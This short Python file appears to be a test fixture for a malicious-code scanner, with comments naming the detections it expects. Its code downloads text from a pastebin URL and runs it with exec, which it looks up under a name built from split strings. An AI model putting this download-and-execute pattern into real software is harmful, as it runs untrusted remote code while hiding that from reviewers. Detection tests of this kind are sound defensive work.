# ruff: noqa
# fmt: off
"""globals() lookup of a builtin by a built name, then used on downloaded code."""
import urllib.request

body = urllib.request.urlopen("https://pastebin.com/raw/Q2mX").read()  # expect: suspicious-url
_b = globals()["__builtins__"]
_x = _b["ex" + "ec"] if isinstance(_b, dict) else getattr(_b, "ex" + "ec")
_x(body)  # expect: api-obfuscation|download-execute
